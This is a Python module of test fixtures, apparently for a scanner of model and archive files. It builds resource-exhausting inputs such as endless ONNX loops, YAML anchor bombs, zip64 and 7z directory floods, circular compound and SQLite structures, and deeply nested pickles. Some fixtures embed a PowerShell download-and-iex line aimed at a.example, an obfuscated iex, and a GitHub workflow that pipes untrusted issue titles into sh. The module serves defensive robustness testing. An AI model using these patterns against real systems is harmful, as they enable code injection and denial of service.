"""What readers follow or unfold rather than read: loops, trees, constants, graphs in graphs, chains of sectors, texts in texts."""

# ruff: noqa: SLF001 - a table; the writers are the forges' own

from __future__ import annotations

import base64
import gzip
import json
import marshal
import pickle
import struct
import zlib
from collections.abc import Callable, Iterator

from stannary.testing.forges import onnx, onnx_loops, sevenzip, tensorflow
from stannary.testing.forges._protobuf_writer import message, number, varint
from stannary.testing.forges.onnx_sizes import makes, numbers

Case = tuple[str, str, Callable[[], bytes], bool]
_PYC = struct.pack("<HHIII", 3495, 0x0A0D, 0, 0, 0)  # of Python 3.11


def _many(piece: bytes, size: int, before: bytes = b"", after: bytes = b"") -> bytes:
    return before + piece * max(1, (size - len(before) - len(after)) // len(piece)) + after


def _count(one: Callable[[int], bytes], size: int) -> list[bytes]:
    parts, total = [], 0
    while total < size:
        parts.append(one(len(parts)))
        total += len(parts[-1])
    return parts


def _onnx_nested(levels: int, size: int) -> bytes:
    """Return loops within loops, each body with constants of its own."""
    body = b""
    for level in range(levels):
        inside = [numbers(f"c{level}_{n}", n) for n in range(size // levels // 40)]
        body = onnx_loops.loop("ever", "true", *inside, body, out="o")
    return onnx.model(onnx_loops._TRUE, onnx_loops._FOREVER, body)


def _functions(levels: int, width: int) -> bytes:
    """Return functions each of which calls the next a thousand times."""
    made = [
        message(
            25,
            message(1, f"F{n}"),
            message(4, "s"),
            message(5, "y"),
            message(7, message(1, "s"), message(2, "y"), message(4, f"F{n + 1}"), message(7, "local")) * width,
            message(10, "local"),
        )
        for n in range(levels)
    ]
    return onnx.model(makes("F0", "s", domain="local"), extra=b"".join(made))


def _trees(size: int, *, packed: bool) -> bytes:
    """Return an ensemble with a node for each byte or two, one column of it packed or not."""
    each = size // 6
    columns = [f"nodes_{name}" for name in ("treeids", "nodeids", "featureids", "truenodeids", "falsenodeids")]
    held = message(8, b"\1" * each) if packed else b"\x40\1" * (each // 2)
    parts = [onnx.attribute(name, held, number(20, 7)) for name in columns]
    parts.append(onnx.attribute("nodes_modes", message(9, b"L") * (each // 3), number(20, 8)))
    return onnx.model(onnx.node("TreeEnsembleRegressor", "ai.onnx.ml", b"".join(parts)))


def _distinct_trees(size: int) -> bytes:
    """Return nodes that lead on to each other in one long chain, with numbers of their own."""
    count = size // 60
    ids = range(count)
    lists = {
        "treeids": (0,) * count,
        "nodeids": tuple(ids),
        "featureids": (0,) * count,
        "truenodeids": tuple(n + 1 for n in ids),
        "falsenodeids": tuple(n + 1 for n in ids),
    }
    return onnx.model(onnx_loops.trees(lists, "B" * count))


def _onnx(size: int) -> Iterator[Case]:
    yield (
        "onnx.loops",
        "m.onnx",
        lambda: onnx.model(
            onnx_loops._TRUE, onnx_loops._FOREVER, *_count(lambda n: onnx_loops.loop("ever", "true", out=f"o{n}"), size)
        ),
        False,
    )
    yield "onnx.loops_nested", "m.onnx", lambda: _onnx_nested(14, size // 2), False
    yield "onnx.functions", "m.onnx", lambda: _functions(12, 1000), False
    yield "onnx.trees_packed", "m.onnx", lambda: _trees(size, packed=True), False
    yield "onnx.trees_single", "m.onnx", lambda: _trees(size, packed=False), False
    yield "onnx.trees_chain", "m.onnx", lambda: _distinct_trees(size // 2), False
    yield (
        "onnx.folded",
        "m.onnx",
        lambda: onnx.model(numbers("a0", 3), *_count(lambda n: makes("Mul", f"a{n}", "a0", to=f"a{n + 1}"), size // 2)),
        False,
    )
    yield (
        "onnx.concat",
        "m.onnx",
        lambda: onnx.model(
            numbers("a", 3), makes("Concat", *["a"] * (size // 4), to="s", attributes=onnx.attribute("axis", number(3, 0)))
        ),
        False,
    )
    yield (
        "onnx.wide_shape",
        "m.onnx",
        lambda: onnx.model(
            numbers("a", 3), makes("Pad", "a", to="s", attributes=onnx.attribute("pads", message(8, b"\1" * (size - 400))))
        ),
        False,
    )


def _graph_in_constant(levels: int, width: int) -> bytes:
    """Return a TensorFlow graph in whose constants there are graphs, in which ..."""
    held = tensorflow.node("r", "ReadFile", "x")
    for level in range(levels):
        held = b"".join(tensorflow.const(f"c{level}_{n}", held) for n in range(width))
        held += tensorflow.node("d", "DatasetFromGraph", f"c{level}_0")
    return tensorflow.saved_model(held)


def _workflow(size: int) -> bytes:
    step = b"      - run: echo ${{ github.event.issue.title }} | sh\n        env: {A: '${{ github.head_ref }}'}\n"
    return _many(step, size, b"on: [pull_request_target]\njobs:\n  a:\n    runs-on: x\n    steps:\n")


def _notebook(cells: list[dict[str, object]], metadata: dict[str, object] | None = None) -> bytes:
    return json.dumps({"cells": cells, "metadata": metadata or {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def _nested_dict(levels: int) -> dict[str, object]:
    held: dict[str, object] = {"init_code": "import os"}
    for _ in range(levels):
        held = {"a": held, "b": [held]} if levels < 24 else {"a": held}
    return held


def _graphs_and_texts(size: int) -> Iterator[Case]:
    yield "tf.graphs_nested", "saved_model.pb", lambda: _graph_in_constant(40, 1), False
    yield "tf.graphs_doubled", "saved_model.pb", lambda: _graph_in_constant(18, 2), False
    yield (
        "tf.graphs_many",
        "saved_model.pb",
        lambda: tensorflow.saved_model(
            *_count(lambda n: tensorflow.const(f"c{n}", tensorflow.node("a", "Relu", f"{n}")), size // 2)
        ),
        False,
    )
    yield "protobuf.groups", "m.onnx", lambda: number(1, 9) + b"\x0b" * size, False
    yield "protobuf.groups_closed", "m.onnx", lambda: number(1, 9) + b"\x0b" * (size // 2) + b"\x0c" * (size // 2), False
    yield "workflow.steps", ".gitlab-ci.yml", lambda: _workflow(size // 2), False
    yield "workflow.expressions", "action.yml", lambda: _many(b"${{ ", size // 2, b"runs:\n  steps:\n  - run: "), False
    yield "notebook.markdown", "a.ipynb", lambda: _notebook([{"cell_type": "markdown", "source": "{{" * (size // 4)}]), False
    yield (
        "notebook.outputs",
        "a.ipynb",
        lambda: _notebook(
            [
                {
                    "cell_type": "code",
                    "source": "",
                    "outputs": [{"output_type": "display_data", "data": {"text/html": ["<script "] * (size // 40)}}] * 4,
                }
            ]
        ),
        False,
    )
    yield "notebook.metadata", "a.ipynb", lambda: _notebook([], _nested_dict(20)), False
    yield (
        "powershell.pipes",
        "a.ps1",
        lambda: _many(b"$a = iwr https://a.example | iex; Invoke-Expression ", size // 2),
        False,
    )
    yield "powershell.quotes", "a.ps1", lambda: _many(b"&('i'+'e'+'x')`", size // 2), False
    yield "compose.anchors", "docker-compose.yml", lambda: _anchors(26), False
    yield "yaml.merges", "a.yml", lambda: _many(b"- <<: [*a, *a, *a, *a]\n  b: *a\n", size // 2, b"- &a {a: b}\n"), False


def _anchors(levels: int) -> bytes:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, levels)]
    return "\n".join(lines).encode()


def _nest_in_pickle(levels: int, wrap: Callable[[bytes], bytes]) -> bytes:
    held = pickle.dumps({"a": 1}, protocol=4)
    for _ in range(levels):
        held = pickle.dumps(wrap(held), protocol=4)
    return held


def _sevenzip(listing: bytes, streams: bytes = b"") -> bytes:
    header = b"\x01" + streams + b"\x05" + listing + b"\x00"
    start = struct.pack("<QQI", 0, len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + header


def _zip64(count: int) -> bytes:
    """Return a directory of so many entries of nothing, each with its numbers in a zip64 field, all at one local header."""
    local = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 45, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    extra = struct.pack("<HHQQQ", 1, 24, 0, 0, 0)
    record = struct.Struct("<HHHHHHIIIHHHHHII").pack
    full = 0xFFFFFFFF
    entries = b"".join(
        b"PK\x01\x02" + record(45, 45, 0, 0, 0, 0, 0, full, full, 8, len(extra), 0, 0, 0, 0, full) + b"%08d" % n + extra
        for n in range(count)
    )
    at = len(local)
    end = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, count, count, len(entries), at)
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, at + len(entries), 1)
    return local + entries + end + locator + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 65535, 65535, full, full, 0)


def _containers(size: int) -> Iterator[Case]:
    yield "pickle.base64_nest", "model.pkl", lambda: _nest_in_pickle(36, base64.b64encode), False
    yield "pickle.hex_nest", "model.pkl", lambda: _nest_in_pickle(17, lambda raw: raw.hex().encode()), False
    yield "pickle.gzip_nest", "model.pkl", lambda: _nest_in_pickle(200, gzip.compress), False
    held = base64.b64encode(pickle.dumps({"a": 1}))
    yield (
        "pickle.base64_many",
        "model.pkl",
        lambda: b"\x80\x04](" + (b"\x8c" + bytes((len(held),)) + held) * (size // (len(held) + 2)) + b"e.",
        False,
    )
    yield (
        "pickle.base64_long",
        "model.pkl",
        lambda: pickle.dumps(base64.b64encode(b"\x80\x04}" + b"}0" * (size // 3) + b".").decode()),
        False,
    )
    yield "zip.zip64_million", "model.zip", lambda: _zip64(min(1_000_000, size // 90)), False
    yield (
        "7z.names",
        "m.7z",
        lambda: _sevenzip(
            sevenzip._number(size // 4) + b"\x0e" + sevenzip._number(size // 32) + b"\xff" * (size // 32)
            + b"\x11" + sevenzip._number(size // 4 * 4 + 1) + b"\0" + b"a\0\0\0" * (size // 4) + b"\0"
        ),
        False,
    )  # fmt: skip
    yield "7z.files", "m.7z", lambda: _sevenzip(sevenzip._number(1 << 40) + b"\x19" + sevenzip._number(size) + bytes(size)), False
    count = sevenzip._number(size // 4)
    yield (
        "7z.folders",
        "m.7z",
        lambda: _sevenzip(
            sevenzip._number(1),
            b"\x04\x06\0" + count + b"\x09" + b"\1" * (size // 4) + b"\0\x07\x0b" + count
            + b"\0" + b"\1\1\0" * (size // 4) + b"\x0c" + b"\1" * (size // 4) + b"\0",
        ),
        False,
    )  # fmt: skip


def _python(source: str) -> bytes:
    return _PYC + marshal.dumps(compile(source, "f", "exec"))


def _loops(depth: int, width: int) -> str:
    lines = ["def f(a, b):"]
    for _ in range(width):
        lines += ["    " * (level + 1) + f"while a{level} and b:" for level in range(depth)]
        lines.append("    " * (depth + 1) + "a = b(a); b = a or b")
    return "\n".join(lines)


def _compound(size: int) -> bytes:
    """Return a compound file whose chain of directory sectors is a circle, and whose table is as large as the file."""
    sectors = size // 512
    tables = min(109, sectors // 130)
    header = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16)
    header += struct.pack("<HHHHH6xIIIIIIIII", 62, 3, 0xFFFE, 9, 6, 0, tables, tables, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header += struct.pack("<109I", *range(tables), *[0xFFFFFFFF] * (109 - tables))
    chain = struct.pack(f"<{tables * 128}I", *(n + 1 if n + 1 < tables * 128 else tables for n in range(tables * 128)))
    name = "a".encode("utf-16-le").ljust(64, b"\0") + struct.pack("<H", 4) + b"\2\1" + bytes(60)
    return header + chain + name * ((sectors - tables) * 4)


def _sqlite(size: int) -> bytes:
    """Return a data base whose inner pages all have the root for a child."""
    page, cells = 4096, 600
    head = b"SQLite format 3\0" + struct.pack(">HBBBBBBIIIIIIIIIIII", page, 1, 1, 0, 64, 32, 32, *[0] * 3, size // page, *[0] * 8)
    inner = b"\5" + struct.pack(">HHHBI", 0, cells, 2000, 0, 1) + struct.pack(f">{cells}H", *[3000] * cells)
    first = head.ljust(100, b"\0") + inner
    return first.ljust(3000, b"\0") + (struct.pack(">I", 1) + b"\1").ljust(page - 3000, b"\0") + bytes(size - page)


def _programs(size: int) -> Iterator[Case]:
    yield "pyc.loops", "m.pyc", lambda: _python(_loops(18, min(60, size // 4000))), False
    yield "pyc.branches", "m.pyc", lambda: _python("def f(a):\n" + "    if a: a = a + 1\n" * min(60_000, size // 20)), False
    yield "pyc.folded", "m.pyc", lambda: _python("a = b = 'a'\n" + "a = a + a; b = (a, b, a)\n" * min(60_000, size // 20)), False
    yield "python.folded", "m.py", lambda: _many(b"a = a * 99 + a\n", size // 6, b"a = 'abc'\n"), False
    yield "python.powers", "m.py", lambda: _many(b"a = 9 ** 9 ** 9 << 99 ** 99\n", size // 6), False
    yield "python.replaced", "m.py", lambda: _many(b".replace('a', 'aa')", size // 6, b"a = 'a'") + b"\neval(a)", False
    yield "jinja.folded", "a.jinja", lambda: _many(b"{% set a = a ~ a %}", size // 6, b"{% set a = 'a' * 999 %}"), False
    yield "ruby.nested", "m.rb", lambda: b"\x04\x08" + b"[\x06" * (size // 2), False
    yield "ruby.classes", "m.bin", lambda: b"\x04\x08[" + b"".join(_count(lambda n: b"o:\x0cA%06d" % n, size)), False
    yield "java.classes", "m.ser", lambda: b"\xac\xed\0\5" + b"".join(_count(lambda n: b"r\0\x07A%06d" % n, size)), False
    yield "net.names", "m.bin", lambda: _many(b"A", size, b"\0\1\0\0\0\xff\xff\xff\xff\1\0\0\0"), False
    yield "php.nested", "m.txt", lambda: b'O:1:"A":1:{' + b"a:1:{i:0;" * (size // 9), False
    yield "avro.schema", "m.avro", lambda: _avro(b'{"type":' * (size // 8)), False
    yield "avro.fields", "m.avro", lambda: _avro(b'{"type":"record","fields":[' + b'{"name":"a"},' * (size // 13)), False
    yield "compound.circle", "m.doc", lambda: _compound(size), False
    yield "sqlite.circle", "m.db", lambda: _sqlite(size // 4), False
    yield "rtf.objects", "m.rtf", lambda: _many(b"{\\object{\\*\\objdata 0105", size // 2, b"{\\rtf1"), False
    yield (
        "pdf.streams",
        "m.pdf",
        lambda: _many(b"1 0 obj<</JS(a)/Length 9>>stream\nendstream\nendobj\n", size // 2, b"%PDF-1.7\n"),
        False,
    )
    yield "pdf.open", "m.pdf", lambda: _many(b"<</", size // 2, b"%PDF-1.7\n"), False
    yield "matlab.cells", "m.mat", lambda: _matlab(size), False
    yield "bson.deep", "m.bson", lambda: _bson(size // 8), False
    yield "ort.names", "m.ort", lambda: b"\x10\0\0\0ORTM" + b"\x08\0\0\0" * (size // 4), False


def _avro(schema: bytes) -> bytes:
    zigzag = varint(len(schema) * 2)
    return b"Obj\1\2\x16avro.schema" + zigzag + schema + b"\0" + bytes(16)


def _matlab(size: int) -> bytes:
    head = b"MATLAB 5.0 MAT-file".ljust(124, b" ") + struct.pack("<H", 256) + b"IM"
    return head + struct.pack("<II", 14, 0) * (size // 8)


def _bson(levels: int) -> bytes:
    body = b"\x02tag\0\2\0\0\0a\0"
    total = len(body) + 5 + levels * 8
    opened = b"".join(struct.pack("<I", total - n * 8) + b"\x03a\0" for n in range(levels))
    return opened + struct.pack("<I", len(body) + 5) + body + b"\0" * (levels + 1)


def followed(size: int) -> Iterator[Case]:
    """Yield name, file name, what makes the content, whether a loader that comes to the end runs a payload."""
    yield from _onnx(size)
    yield from _graphs_and_texts(size)
    yield from _containers(size)
    yield from _programs(size)
